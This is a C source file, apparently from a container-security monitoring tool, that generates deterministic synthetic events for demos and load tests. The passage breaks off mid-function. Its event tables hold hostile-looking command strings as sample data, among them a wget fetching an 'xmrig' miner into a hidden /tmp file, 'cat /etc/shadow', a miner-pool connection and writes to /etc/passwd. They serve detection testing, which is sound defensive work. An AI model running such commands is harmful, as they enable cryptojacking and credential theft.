/* synthetic.c - the `synthetic` source: a realistic, deterministic mix of
 * every event kind for demos, load tests and the integration suite.
 *
 * A pool of containers (64-hex ids, real-looking images, sha256 digests,
 * docker/containerd/cri-o/podman, Kubernetes pods for most) is made at start
 * from the seed; each event picks a container and a kind (mostly exec, net
 * and resource samples; some file access; few config, vuln and Falco-style
 * alerts, with rare suspicious ones: a shell with a tty, a miner pool on
 * port 3333, a privileged container). The same seed and the same sequence of
 * now_ns give the same events.
 *
 * Rate: a token bucket that starts full with one token at the first call and
 * holds at most one second of events, so a stalled loop does not cause a
 * burst. With a rate, the events of one call are spread evenly over the time
 * since the previous call (the last one at now_ns), as if each had been seen
 * when it was due, so a caller pulling every few hundred ms still gets
 * distinct, increasing event times.
 *
 * Memory: by default events are malloc'd trees (evjson_event_free()). With
 * `pooled` (the agent), an event is a few bump allocations in the source's
 * slabs, its constant strings point at the source's own data instead of
 * copies, and the slabs are rewound once every event given out has come back
 * through source_release(): no malloc or free per field. */
#include <inttypes.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "bulwark/containers.h"
#include "bulwark/err.h"
#include "bulwark/evjson.h"
#include "bulwark/source.h"

#define SYN_CONTAINERS 20
#define SYN_SLAB 65536u          /* pooled mode: bytes per slab */
#define SYN_SLABS_KEPT 16u       /* slabs kept for reuse when all events are back */
#define SYN_HOST_MAX 255
#define NELEM(a) (sizeof(a) / sizeof((a)[0]))

struct image_profile {
    const char *image;
    const char *app;
    const char *exe;
    const char *cmdline;
    const char *user;
    uint32_t uid;
    uint32_t port;
    uint64_t mem_limit;
};

static const struct image_profile profiles[] = {
    {"nginx:1.25", "web", "/usr/sbin/nginx", "nginx: worker process", "nginx", 101, 80, 256u << 20},
    {"redis:7", "cache", "/usr/local/bin/redis-server", "redis-server *:6379", "redis", 999, 6379,
     1u << 30},
    {"python:3.12-slim", "api", "/usr/local/bin/python3.12",
     "python3 -m gunicorn app:app -b 0.0.0.0:8000", "app", 1000, 8000, 512u << 20},
    {"postgres:16", "db", "/usr/lib/postgresql/16/bin/postgres", "postgres -D /var/lib/postgresql/data",
     "postgres", 999, 5432, 2ULL << 30},
    {"node:20-alpine", "frontend", "/usr/local/bin/node", "node server.js", "node", 1000, 3000,
     512u << 20},
    {"ghcr.io/acme/billing:2.3.1", "billing", "/app/billing", "/app/billing --config /etc/billing.yaml",
     "nonroot", 65532, 8080, 0},
    {"busybox:1.36", "job", "/bin/sh", "sh -c sleep 3600", "root", 0, 0, 64u << 20},
};

struct exec_profile {
    const char *exe;
    const char *cmdline;
    unsigned weight;
    bool tty;
    Bulwark__V1__Severity sev;
};

static const struct exec_profile execs[] = {
    {"/bin/sh", "sh -c date", 20, false, BULWARK__V1__SEVERITY__SEVERITY_INFO},
    {"/usr/bin/curl", "curl -s http://localhost:8080/healthz", 25, false,
     BULWARK__V1__SEVERITY__SEVERITY_INFO},
    {"/bin/ls", "ls -la /app", 10, false, BULWARK__V1__SEVERITY__SEVERITY_INFO},
    {"/bin/ps", "ps aux", 8, false, BULWARK__V1__SEVERITY__SEVERITY_INFO},
    {"/usr/local/bin/python3.12", "python3 manage.py migrate", 8, false,
     BULWARK__V1__SEVERITY__SEVERITY_INFO},
    {"/usr/bin/apt-get", "apt-get update", 4, false, BULWARK__V1__SEVERITY__SEVERITY_NOTICE},
    {"/bin/bash", "bash", 3, true, BULWARK__V1__SEVERITY__SEVERITY_WARNING},
    {"/bin/cat", "cat /etc/shadow", 1, false, BULWARK__V1__SEVERITY__SEVERITY_WARNING},
    {"/usr/bin/wget", "wget -q http://203.0.113.7/xmrig -O /tmp/.x", 1, false,
     BULWARK__V1__SEVERITY__SEVERITY_CRITICAL},
};

struct net_profile {
    const char *addr;   /* NULL: a random 10.x address */
    uint32_t port;
    const char *name;
    bool udp;
    unsigned weight;
};

static const struct net_profile nets[] = {
    {"10.96.0.10", 53, "kube-dns.kube-system.svc", true, 20},
    {NULL, 5432, "postgres.shop.svc", false, 20},
    {NULL, 6379, "redis.shop.svc", false, 15},
    {"140.82.112.3", 443, "api.github.com", false, 10},
    {"151.101.0.223", 443, "pypi.org", false, 8},
    {"2a00:1450:4001:80b::200e", 443, "storage.googleapis.com", false, 8},
    {"2606:4700::6810:84e5", 443, "registry.npmjs.org", false, 6},
    {"52.216.8.190", 443, "s3.amazonaws.com", false, 10},
    {NULL, 8080, "", false, 10},
    {"198.51.100.23", 3333, "pool.supportxmr.com", false, 1},
};

struct file_profile {
    Bulwark__V1__FileAccess__Op op;
    const char *path;
    const char *new_path;
    unsigned weight;
    Bulwark__V1__Severity sev;
};

static const struct file_profile files[] = {
    {BULWARK__V1__FILE_ACCESS__OP__WRITE, "/var/log/app/access.log", "", 30,
     BULWARK__V1__SEVERITY__SEVERITY_INFO},
    {BULWARK__V1__FILE_ACCESS__OP__OPEN, "/etc/ssl/certs/ca-certificates.crt", "", 25,
     BULWARK__V1__SEVERITY__SEVERITY_INFO},
    {BULWARK__V1__FILE_ACCESS__OP__CREATE, "/tmp/upload-7f3a.part", "", 15,
     BULWARK__V1__SEVERITY__SEVERITY_INFO},
    {BULWARK__V1__FILE_ACCESS__OP__RENAME, "/app/data/cache.tmp", "/app/data/cache.db", 12,
     BULWARK__V1__SEVERITY__SEVERITY_INFO},
    {BULWARK__V1__FILE_ACCESS__OP__DELETE, "/tmp/upload-7f3a.part", "", 12,
     BULWARK__V1__SEVERITY__SEVERITY_INFO},
    {BULWARK__V1__FILE_ACCESS__OP__CHMOD, "/tmp/.x", "", 2, BULWARK__V1__SEVERITY__SEVERITY_WARNING},
    {BULWARK__V1__FILE_ACCESS__OP__WRITE, "/etc/passwd", "", 1, BULWARK__V1__SEVERITY__SEVERITY_ERROR},
    {BULWARK__V1__FILE_ACCESS__OP__WRITE, "/usr/bin/ls", "", 1, BULWARK__V1__SEVERITY__SEVERITY_ERROR},
};

struct vuln_profile {
    const char *id, *package, *installed, *fixed, *sev;
    double cvss;
    const char *title;
};

static const struct vuln_profile vulns[] = {
    {"CVE-2023-44487", "libnghttp2-14", "1.52.0-1", "1.52.0-1+deb12u1", "HIGH", 7.5,
     "HTTP/2 Rapid Reset denial of service"},
    {"CVE-2024-6387", "openssh-client", "1:9.2p1-2", "1:9.2p1-2+deb12u3", "HIGH", 8.1,
     "regreSSHion: signal handler race in sshd"},
    {"CVE-2023-4911", "libc6", "2.36-9", "2.36-9+deb12u3", "HIGH", 7.8,
     "Looney Tunables: buffer overflow in ld.so"},
    {"CVE-2024-3094", "xz-utils", "5.6.0-0.2", "5.6.1+really5.4.5-1", "CRITICAL", 10.0,
     "malicious code in xz upstream tarballs"},
    {"CVE-2023-38545", "curl", "7.88.1-10", "7.88.1-10+deb12u4", "CRITICAL", 9.8,
     "SOCKS5 heap buffer overflow"},
    {"CVE-2024-45490", "libexpat1", "2.5.0-1", "2.5.0-1+deb12u1", "CRITICAL", 9.8,
     "negative length in XML_ParseBuffer"},
    {"GHSA-jfh8-c2jp-5v3q", "org.apache.logging.log4j:log4j-core", "2.14.1", "2.15.0", "CRITICAL",
     10.0, "Log4Shell: remote code execution in log4j"},
};

struct alert_profile {
    const char *rule, *priority, *output;  /* output: " container=NAME)" follows */
    const char *tags[3];
    Bulwark__V1__Severity sev;
};

static const struct alert_profile alerts[] = {
    {"Terminal shell in container", "Notice",
     "A shell was spawned in a container with an attached terminal (user=root shell=bash",
     {"container", "shell", "mitre_execution"}, BULWARK__V1__SEVERITY__SEVERITY_NOTICE},
    {"Read sensitive file untrusted", "Warning",
     "Sensitive file opened for reading by non-trusted program (file=/etc/shadow",
     {"filesystem", "mitre_credential_access", NULL}, BULWARK__V1__SEVERITY__SEVERITY_WARNING},
    {"Write below etc", "Error", "File below /etc opened for writing (file=/etc/passwd",
     {"filesystem", "mitre_persistence", NULL}, BULWARK__V1__SEVERITY__SEVERITY_ERROR},
    {"Detect outbound connections to common miner pool ports", "Critical",
     "Outbound connection to IP/port flagged by cryptoioc.ch (ip=198.51.100.23 port=3333",
     {"network", "mitre_impact", NULL}, BULWARK__V1__SEVERITY__SEVERITY_CRITICAL},
};

struct syn_container {
    const struct image_profile *prof;
    char id[65];
    char name[64];
    char digest[72];
    const char *runtime;
    const char *ns;          /* NULL: not in Kubernetes */
    char pod[64];
    char pod_uid[37];
    char ip[16];
    int32_t pid;             /* the main process */
    int64_t age_ns;          /* how long before now it started */
    uint64_t netns;
    bool privileged, docker_sock;
};

struct syn_slab {
    struct syn_slab *next;
    size_t used;
    _Alignas(16) unsigned char data[SYN_SLAB];
};

struct synthetic {
    struct source base;
    bool pooled;
    struct syn_slab *slabs;  /* pooled: the list, in order of use */
    struct syn_slab *cur;    /* the one being filled */
    uint64_t live;           /* pooled: events given out and not yet released */
    uint64_t rng;
    double rate;
    uint64_t count;
    uint64_t produced;
    bool started;
    int64_t last_ns;
    double tokens;
    char host[SYN_HOST_MAX + 1];
    struct syn_container pool[SYN_CONTAINERS];
};

/* Event building: allocation failures set oom; the event stays a valid tree. */
struct build {
    struct synthetic *g;
    bool oom;
};

/* ---------------------------------------------------------------- random */

static uint64_t splitmix64(uint64_t *x)
{
    uint64_t z = (*x += 0x9e3779b97f4a7c15ULL);

    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
    return z ^ (z >> 31);
}

static uint64_t rnd(struct synthetic *g)  /* xorshift64* */
{
    g->rng ^= g->rng >> 12;
    g->rng ^= g->rng << 25;
    g->rng ^= g->rng >> 27;
    return g->rng * 0x2545f4914f6cdd1dULL;
}

static uint32_t rnd_below(struct synthetic *g, uint32_t n)
{
    return (uint32_t)((rnd(g) >> 32) * n >> 32);
}

static double rnd_range(struct synthetic *g, double lo, double hi)
{
    return lo + (double)(rnd(g) >> 11) / 9007199254740992.0 * (hi - lo);
}

static void rnd_hex(struct synthetic *g, char *out, size_t n)
{
    static const char hex[] = "0123456789abcdef";

    for (size_t i = 0; i < n; i++)
        out[i] = hex[rnd(g) >> 60];
    out[n] = '\0';
}

#define PICK_WEIGHTED(g, arr) (&(arr)[pick_weighted((g), &(arr)[0].weight, sizeof((arr)[0]), NELEM(arr))])

/* Index into an array of structs, each with an unsigned weight at the same offset. */
static size_t pick_weighted(struct synthetic *g, const unsigned *w0, size_t stride, size_t n)
{
    unsigned total = 0, r;

    for (size_t i = 0; i < n; i++)
        total += *(const unsigned *)((const char *)w0 + i * stride);
    r = rnd_below(g, total);
    for (size_t i = 0; i < n; i++) {
        unsigned w = *(const unsigned *)((const char *)w0 + i * stride);

        if (r < w)
            return i;
        r -= w;
    }
    return n - 1;
}

/* ------------------------------------------------------------ containers */

static void make_container(struct synthetic *g, struct syn_container *c, unsigned idx)
{
    static const char *const namespaces[] = {"shop", "shop", "payments", "monitoring", "default"};
    static const char *const k8s_runtimes[] = {"containerd", "containerd", "cri-o"};
    static const char *const plain_runtimes[] = {"docker", "docker", "podman"};
    static const char alnum[] = "bcdfghjklmnpqrstvwxz2456789";
    char suffix[6], hash[11], uuid[33];

    c->prof = &profiles[rnd_below(g, NELEM(profiles))];
    rnd_hex(g, c->id, 64);
    memcpy(c->digest, "sha256:", 7);
    rnd_hex(g, c->digest + 7, 64);
    c->pid = 1000 + (int32_t)rnd_below(g, 60000);
    c->age_ns = (int64_t)rnd_below(g, 3 * 86400) * 1000000000LL;
    c->netns = 4026532000ULL + idx * 7 + rnd_below(g, 5);
    snprintf(c->ip, sizeof c->ip, "10.244.%u.%u", rnd_below(g, 8), 2 + rnd_below(g, 250));
    c->privileged = rnd_below(g, 20) == 0;
    c->docker_sock = rnd_below(g, 25) == 0;
    if (rnd_below(g, 10) < 7) {
        for (int i = 0; i < 5; i++)
            suffix[i] = alnum[rnd_below(g, sizeof alnum - 1)];
        suffix[5] = '\0';
        rnd_hex(g, hash, 10);
        rnd_hex(g, uuid, 32);
        c->ns = namespaces[rnd_below(g, NELEM(namespaces))];
        c->runtime = k8s_runtimes[rnd_below(g, NELEM(k8s_runtimes))];
        snprintf(c->pod, sizeof c->pod, "%s-%.10s-%s", c->prof->app, hash, suffix);
        snprintf(c->name, sizeof c->name, "%s", c->prof->app);
        snprintf(c->pod_uid, sizeof c->pod_uid, "%.8s-%.4s-4%.3s-8%.3s-%.12s", uuid, uuid + 8, uuid + 12,
                 uuid + 15, uuid + 18);
    } else {
        c->runtime = plain_runtimes[rnd_below(g, NELEM(plain_runtimes))];
        snprintf(c->name, sizeof c->name, "%s-%u", c->prof->app, 1 + idx);
    }
}

/* ------------------------------------------------------------- building */

/* pooled: n bytes (16-aligned, not zeroed) from the slabs, or NULL. */
static void *slab_alloc(struct synthetic *g, size_t n)
{
    size_t need = (n + 15) & ~(size_t)15;
    struct syn_slab *c = g->cur;

    if (need > SYN_SLAB)
        return NULL;
    if (!c || SYN_SLAB - c->used < need) {
        struct syn_slab *next = c ? c->next : g->slabs;

        if (!next) {
            next = malloc(sizeof *next);
            if (!next)
                return NULL;
            next->next = NULL;
            if (c)
                c->next = next;
            else
                g->slabs = next;
        }
        next->used = 0;
        g->cur = c = next;
    }
    c->used += need;
    return c->data + c->used - need;
}

/* pooled: every event is back; rewind, keeping a few slabs for the next ones. */
static void slab_rewind(struct synthetic *g)
{
    struct syn_slab *last = g->slabs, *extra;

    for (unsigned kept = 1; last && kept < SYN_SLABS_KEPT; kept++)
        last = last->next;
    extra = last ? last->next : NULL;
    if (last)
        last->next = NULL;
    while (extra) {
        struct syn_slab *next = extra->next;
        free(extra);
        extra = next;
    }
    g->cur = NULL;
}

/* size bytes, zeroed, from the slabs or the heap; NULL sets oom. */
static void *b_alloc(struct build *b, size_t size)
{
    void *p = b->g->pooled ? slab_alloc(b->g, size) : malloc(size);

    if (!p) {
        b->oom = true;
        return NULL;
    }
    memset(p, 0, size);
    return p;
}

/* s lives as long as the source (a profile, the pool, the host name): a
 * pooled event points at it, a heap event gets a copy. */
static char *sdup(struct build *b, const char *s)
{
    char *p;

    if (!s || !*s)
        return (char *)protobuf_c_empty_string;
    if (b->g->pooled)
        return (char *)s;  /* never written through: events are only read */
    p = strdup(s);
    if (!p) {
        b->oom = true;
        return (char *)protobuf_c_empty_string;
    }
    return p;
}

static char *sfmt(struct build *b, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static char *sfmt(struct build *b, const char *fmt, ...)
{
    char tmp[512];
    va_list ap;
    int n;
    char *p;

    va_start(ap, fmt);
    n = vsnprintf(tmp, sizeof tmp, fmt, ap);
    va_end(ap);
    if (n <= 0)
        return (char *)protobuf_c_empty_string;
    if ((size_t)n >= sizeof tmp)
        n = sizeof tmp - 1;
    p = b_alloc(b, (size_t)n + 1);
    if (!p)
        return (char *)protobuf_c_empty_string;
    memcpy(p, tmp, (size_t)n + 1);
    return p;
}

/* Replaces *field (a string this file made) with v (as sdup). */
static void sset(struct build *b, char **field, const char *v)
{
    if (!b->g->pooled && *field != protobuf_c_empty_string)
        free(*field);
    *field = sdup(b, v);
}

/* A zeroed, initialised message of type d, or NULL (oom set). */
static void *new_msg(struct build *b, const ProtobufCMessageDescriptor *d)
{
    ProtobufCMessage *m = b_alloc(b, d->sizeof_message);

    if (!m)
        return NULL;
    d->message_init(m);
    return m;
}

/* The container's one label. */
static void set_label(struct build *b, Bulwark__V1__ContainerRef *c, const char *k, const char *v)
{
    Bulwark__V1__ContainerRef__LabelsEntry **arr = b_alloc(b, sizeof *arr), *e;

    if (!arr)
        return;
    c->labels = arr;
    e = new_msg(b, &bulwark__v1__container_ref__labels_entry__descriptor);
    if (!e)
        return;
    e->key = sdup(b, k);
    e->value = sdup(b, v);
    arr[c->n_labels++] = e;
}

/* full: with the image digest and pod uid (what an inventory event carries;
 * per-activity events name the container more briefly, keeping them small). */
static void set_container(struct build *b, Bulwark__V1__Event *ev, const struct syn_container *sc,
                          bool full)
{
    Bulwark__V1__ContainerRef *c = new_msg(b, &bulwark__v1__container_ref__descriptor);

    if (!c)
        return;
    ev->container = c;
    c->id = sdup(b, sc->id);
    c->name = sdup(b, sc->name);
    c->image = sdup(b, sc->prof->image);
    if (full)
        c->image_digest = sdup(b, sc->digest);
    c->runtime = sdup(b, sc->runtime);
    if (sc->ns) {
        c->k8s_namespace = sdup(b, sc->ns);
        c->k8s_pod = sdup(b, sc->pod);
        if (full)
            c->k8s_pod_uid = sdup(b, sc->pod_uid);
        set_label(b, c, "app", sc->prof->app);
    }
}

static Bulwark__V1__ProcessRef *set_process(struct build *b, Bulwark__V1__Event *ev,
                                            const struct syn_container *sc, int64_t now_ns)
{
    Bulwark__V1__ProcessRef *p = new_msg(b, &bulwark__v1__process_ref__descriptor);
    const char *slash;

    if (!p)
        return NULL;
    ev->process = p;
    slash = strrchr(sc->prof->exe, '/');
    p->pid = sc->pid;
    p->ppid = sc->pid - 1 - (int32_t)rnd_below(b->g, 40);
    p->uid_opt_case = BULWARK__V1__PROCESS_REF__UID_OPT_UID;
    p->gid_opt_case = BULWARK__V1__PROCESS_REF__GID_OPT_GID;
    p->uid = p->gid = sc->prof->uid;
    p->exe = sdup(b, sc->prof->exe);
    p->name = sdup(b, slash ? slash + 1 : sc->prof->exe);
    p->cmdline = sdup(b, sc->prof->cmdline);
    p->parent_name = sdup(b, "containerd-shim");
    p->start_time_ns = now_ns - sc->age_ns;
    p->user = sdup(b, sc->prof->user);
    return p;
}


static void body_exec(struct build *b, Bulwark__V1__Event *ev, const struct syn_container *sc,
                      int64_t now_ns)
{
    const struct exec_profile *x = PICK_WEIGHTED(b->g, execs);
    Bulwark__V1__ProcessRef *p = set_process(b, ev, sc, now_ns);
    Bulwark__V1__ProcessExec *e;

    ev->severity = x->sev;
    if (p) {  /* a child of the container's main process */
        sset(b, &p->parent_name, p->name);
        sset(b, &p->name, strrchr(x->exe, '/') + 1);
        sset(b, &p->exe, x->exe);
        sset(b, &p->cmdline, x->cmdline);
        p->ppid = p->pid;
        p->pid = sc->pid + 1 + (int32_t)rnd_below(b->g, 5000);
        p->start_time_ns = now_ns - (int64_t)rnd_below(b->g, 1000000);
        if (x->tty) {
            p->uid = p->gid = 0;
            sset(b, &p->user, "root");
        }
    }
    e = new_msg(b, &bulwark__v1__process_exec__descriptor);
    if (!e)
        return;
    ev->body_case = BULWARK__V1__EVENT__BODY_EXEC;
    ev->exec = e;
    e->cwd = sdup(b, x->tty ? "/" : "/app");
    e->tty_opt_case = BULWARK__V1__PROCESS_EXEC__TTY_OPT_TTY;
    e->tty = x->tty;
}

static void body_net(struct build *b, Bulwark__V1__Event *ev, const struct syn_container *sc,
                     int64_t now_ns)
{
    const struct net_profile *np = PICK_WEIGHTED(b->g, nets);
    Bulwark__V1__NetConnection *n = new_msg(b, &bulwark__v1__net_connection__descriptor);
    bool inbound = sc->prof->port && rnd_below(b->g, 4) == 0;

    set_process(b, ev, sc, now_ns);
    ev->severity = np->port == 3333 ? BULWARK__V1__SEVERITY__SEVERITY_WARNING
                                    : BULWARK__V1__SEVERITY__SEVERITY_INFO;
    if (!n)
        return;
    ev->body_case = BULWARK__V1__EVENT__BODY_NET;
    ev->net = n;
    n->local_addr = sdup(b, sc->ip);
    n->netns_inode = sc->netns;
    if (inbound) {
        n->direction = BULWARK__V1__NET_CONNECTION__DIRECTION__INBOUND;
        n->local_port = sc->prof->port;
        n->remote_addr = sfmt(b, "10.244.%u.%u", rnd_below(b->g, 8), 2 + rnd_below(b->g, 250));
        n->remote_port = 32768 + rnd_below(b->g, 28000);
        return;
    }
    n->protocol = np->udp ? BULWARK__V1__NET_CONNECTION__PROTOCOL__UDP
                          : BULWARK__V1__NET_CONNECTION__PROTOCOL__TCP;
    n->local_port = 32768 + rnd_below(b->g, 28000);
    n->remote_addr = np->addr ? sdup(b, np->addr)
                              : sfmt(b, "10.%u.%u.%u", 96 + rnd_below(b->g, 160),
                                     rnd_below(b->g, 256), 2 + rnd_below(b->g, 250));
    n->remote_port = np->port;
    n->remote_name = sdup(b, np->name);
}

static void body_file(struct build *b, Bulwark__V1__Event *ev, const struct syn_container *sc,
                      int64_t now_ns)
{
    const struct file_profile *fp = PICK_WEIGHTED(b->g, files);
    Bulwark__V1__FileAccess *f = new_msg(b, &bulwark__v1__file_access__descriptor);

    set_process(b, ev, sc, now_ns);
    ev->severity = fp->sev;
    if (!f)
        return;
    ev->body_case = BULWARK__V1__EVENT__BODY_FILE;
    ev->file = f;
    f->op = fp->op;
    f->path = sdup(b, fp->path);
    f->new_path = sdup(b, fp->new_path);
}

/* Container samples mostly; one in ten is a host sample (no container). */
static void body_resource(struct build *b, Bulwark__V1__Event *ev, const struct syn_container *sc)
{
    Bulwark__V1__ResourceSample *r = new_msg(b, &bulwark__v1__resource_sample__descriptor);
    bool host = rnd_below(b->g, 10) == 0;

    ev->severity = BULWARK__V1__SEVERITY__SEVERITY_INFO;
    if (!r)
        return;
    ev->body_case = BULWARK__V1__EVENT__BODY_RESOURCE;
    ev->resource = r;
    r->interval_ms = 10000;
    if (host) {
        r->cpu_cores = rnd_range(b->g, 0.2, 3.5);
        r->memory_bytes = (uint64_t)rnd_range(b->g, 2.0, 12.0) << 30;
        r->memory_limit_bytes = 16ULL << 30;
        r->scope = sdup(b, "host");
        return;
    }
    set_container(b, ev, sc, false);
    r->cpu_cores = rnd_range(b->g, 0.01, 0.9);
    r->memory_bytes = (20ULL << 20) + rnd_below(b->g, 880u << 20);
    r->memory_limit_bytes = sc->prof->mem_limit;
    r->scope = sdup(b, "container");
}

static char **str_list(struct build *b, size_t *n, const char *const *items, size_t count)
{
    char **arr = b_alloc(b, (count ? count : 1) * sizeof *arr);

    *n = 0;
    if (!arr)
        return NULL;
    for (size_t i = 0; i < count; i++)
        arr[(*n)++] = sdup(b, items[i]);
    return arr;
}

static void body_config(struct build *b, Bulwark__V1__Event *ev, const struct syn_container *sc)
{
    static const char *const caps[] = {"NET_ADMIN", "SYS_ADMIN"};
    static const char *const env[] = {"PATH", "HOME", "DATABASE_URL", "AWS_SECRET_ACCESS_KEY"};
    Bulwark__V1__ContainerConfig *c = new_msg(b, &bulwark__v1__container_config__descriptor);
    Bulwark__V1__Mount *m;

    ev->severity = sc->privileged || sc->docker_sock ? BULWARK__V1__SEVERITY__SEVERITY_WARNING
                                                     : BULWARK__V1__SEVERITY__SEVERITY_INFO;
    if (!c)
        return;
    ev->body_case = BULWARK__V1__EVENT__BODY_CONFIG;
    ev->config = c;
    c->privileged = sc->privileged;
    c->user_uid_opt_case = BULWARK__V1__CONTAINER_CONFIG__USER_UID_OPT_USER_UID;
    c->user_uid = sc->prof->uid;
    if (sc->privileged)
        c->cap_add = str_list(b, &c->n_cap_add, caps, NELEM(caps));
    c->host_network = sc->privileged;
    c->read_only_rootfs = !sc->privileged && sc->prof->uid != 0;
    c->no_new_privileges = !sc->privileged;
    c->seccomp_profile = sdup(b, sc->privileged ? "unconfined" : "runtime/default");
    c->apparmor_profile = sdup(b, sc->privileged ? "unconfined" : "docker-default");
    c->env_names = str_list(b, &c->n_env_names, env, 2 + rnd_below(b->g, 3));
    if (sc->ns)
        c->config_path = sfmt(b, CT_CONTAINERD_TASKS "/k8s.io/%.12s/config.json",
                              sc->id);
    else if (strcmp(sc->runtime, "podman") == 0)
        c->config_path = sfmt(b, CT_STORAGE_LIB "/%.12s/userdata/config.json",
                              sc->id);
    else
        c->config_path = sfmt(b, CT_DOCKER_CONTAINERS "/%.12s/config.v2.json", sc->id);
    c->mounts = b_alloc(b, sizeof *c->mounts);
    if (!c->mounts)
        return;
    m = new_msg(b, &bulwark__v1__mount__descriptor);
    if (!m)
        return;
    c->mounts[c->n_mounts++] = m;
    m->type = sdup(b, "bind");
    if (sc->docker_sock) {
        m->source = sdup(b, "/var/run/docker.sock");
        m->target = sdup(b, "/var/run/docker.sock");
    } else {
        m->source = sc->ns ? sfmt(b, "/var/lib/kubelet/pods/%s/volumes/config", sc->pod_uid)
                           : sfmt(b, "/srv/%s/config", sc->name);
        m->target = sdup(b, "/etc/config");
        m->read_only = true;
    }
}

/* An image finding, or one in ten about the host itself. */
static void body_vuln(struct build *b, Bulwark__V1__Event *ev, const struct syn_container *sc)
{
    const struct vuln_profile *vp = &vulns[rnd_below(b->g, NELEM(vulns))];
    Bulwark__V1__VulnFinding *v = new_msg(b, &bulwark__v1__vuln_finding__descriptor);
    bool host = rnd_below(b->g, 10) == 0;

    ev->severity = strcmp(vp->sev, "CRITICAL") == 0 ? BULWARK__V1__SEVERITY__SEVERITY_CRITICAL
                                                    : BULWARK__V1__SEVERITY__SEVERITY_WARNING;
    if (!v)
        return;
    ev->body_case = BULWARK__V1__EVENT__BODY_VULN;
    ev->vuln = v;
    v->vuln_id = sdup(b, vp->id);
    v->package = sdup(b, vp->package);
    v->installed_version = sdup(b, vp->installed);
    v->fixed_version = sdup(b, vp->fixed);
    v->vuln_severity = sdup(b, vp->sev);
    v->cvss_score = vp->cvss;
    v->title = sdup(b, vp->title);
    v->scanner = sdup(b, "trivy");
    if (host) {
        v->target = sfmt(b, "%s (debian 12.5)", b->g->host);
        return;
    }
    set_container(b, ev, sc, true);
    v->target = sdup(b, sc->prof->image);
}

static void body_external(struct build *b, Bulwark__V1__Event *ev, const struct syn_container *sc,
                          int64_t now_ns)
{
    static const char *const keys[] = {"container.id", "k8s.ns.name", "evt.hostname"};
    const struct alert_profile *ap = &alerts[rnd_below(b->g, NELEM(alerts))];
    Bulwark__V1__ExternalAlert *x = new_msg(b, &bulwark__v1__external_alert__descriptor);
    size_t ntags = 0;

    set_process(b, ev, sc, now_ns);
    ev->severity = ap->sev;
    if (!x)
        return;
    ev->body_case = BULWARK__V1__EVENT__BODY_EXTERNAL;
    ev->external = x;
    x->source = sdup(b, "falco");
    x->rule = sdup(b, ap->rule);
    x->priority = sdup(b, ap->priority);
    x->output = sfmt(b, "%s container=%s)", ap->output, sc->name);
    while (ntags < NELEM(ap->tags) && ap->tags[ntags])
        ntags++;
    x->tags = str_list(b, &x->n_tags, ap->tags, ntags);
    x->fields = b_alloc(b, NELEM(keys) * sizeof *x->fields);
    if (!x->fields)
        return;
    for (size_t i = 0; i < NELEM(keys); i++) {
        Bulwark__V1__ExternalAlert__FieldsEntry *e =
            new_msg(b, &bulwark__v1__external_alert__fields_entry__descriptor);
        const char *val = i == 0 ? sc->id : i == 1 ? (sc->ns ? sc->ns : "") : b->g->host;

        if (!e)
            return;
        x->fields[x->n_fields++] = e;
        e->key = sdup(b, keys[i]);
        e->value = i == 0 ? sfmt(b, "%.12s", val) : sdup(b, val);
    }
}

enum syn_kind { K_EXEC, K_NET, K_RESOURCE, K_FILE, K_CONFIG, K_VULN, K_EXTERNAL, K_COUNT };

/* Per 1000 events. */
static const unsigned kind_weight[K_COUNT] = {280, 300, 250, 120, 20, 20, 10};

static Bulwark__V1__Event *make_event(struct synthetic *g, int64_t now_ns)
{
    struct build b = {.g = g};
    const struct syn_container *sc = &g->pool[rnd_below(g, SYN_CONTAINERS)];
    Bulwark__V1__Event *ev = new_msg(&b, &bulwark__v1__event__descriptor);
    unsigned r = rnd_below(g, 1000), k = 0;

    if (!ev)
        return NULL;
    ev->time_ns = now_ns;
    while (k + 1 < K_COUNT && r >= kind_weight[k])
        r -= kind_weight[k++];
    if (k != K_RESOURCE && k != K_VULN)
        set_container(&b, ev, sc, k == K_CONFIG);
    switch ((enum syn_kind)k) {
    case K_EXEC: body_exec(&b, ev, sc, now_ns); break;
    case K_NET: body_net(&b, ev, sc, now_ns); break;
    case K_RESOURCE: body_resource(&b, ev, sc); break;
    case K_FILE: body_file(&b, ev, sc, now_ns); break;
    case K_CONFIG: body_config(&b, ev, sc); break;
    case K_VULN: body_vuln(&b, ev, sc); break;
    default: body_external(&b, ev, sc, now_ns); break;
    }
    if (b.oom) {
        if (!g->pooled)
            evjson_event_free(ev);  /* pooled: the memory goes back at the rewind */
        return NULL;
    }
    return ev;
}

/* --------------------------------------------------------------- source */

static int synthetic_produce(struct source *s, int64_t now_ns, Bulwark__V1__Event **out, size_t max,
                             bool *done)
{
    struct synthetic *g = (struct synthetic *)s;
    size_t n = max, i;
    int64_t from_ns = now_ns;  /* with a rate: the events span (from_ns, now_ns] */

    if (g->rate > 0) {
        double burst = g->rate > 1.0 ? g->rate : 1.0;

        if (g->started && now_ns > g->last_ns)
            from_ns = g->last_ns;
        if (!g->started) {
            g->started = true;
            g->last_ns = now_ns;
            g->tokens = 1.0;
        } else if (now_ns > g->last_ns) {
            g->tokens += (double)(now_ns - g->last_ns) * g->rate / 1e9;
            g->last_ns = now_ns;
            if (g->tokens > burst)
                g->tokens = burst;
        }
        if ((double)n > g->tokens)
            n = (size_t)g->tokens;
    }
    if (g->count && n > g->count - g->produced)
        n = (size_t)(g->count - g->produced);
    for (i = 0; i < n; i++) {
        out[i] = make_event(g, now_ns - (int64_t)((double)(now_ns - from_ns) *
                                                  (double)(n - 1 - i) / (double)n));
        if (!out[i])
            break;
        g->live++;
    }
    if (g->rate > 0)
        g->tokens -= (double)i;
    g->produced += i;
    if (i < n && i == 0)
        return BW_ENOMEM;
    *done = g->count && g->produced >= g->count;
    return (int)i;
}

static void synthetic_release(struct source *s, Bulwark__V1__Event *ev)
{
    struct synthetic *g = (struct synthetic *)s;

    if (!ev)
        return;
    if (!g->pooled) {
        evjson_event_free(ev);
        return;
    }
    if (g->live > 0 && --g->live == 0)
        slab_rewind(g);
}

static void synthetic_destroy(struct source *s)
{
    struct synthetic *g = (struct synthetic *)s;

    while (g->slabs) {
        struct syn_slab *next = g->slabs->next;
        free(g->slabs);
        g->slabs = next;
    }
    free(g);
}

struct source *source_synthetic_new(const struct synthetic_options *opt)
{
    struct synthetic *g;
    uint64_t seed = opt->seed;

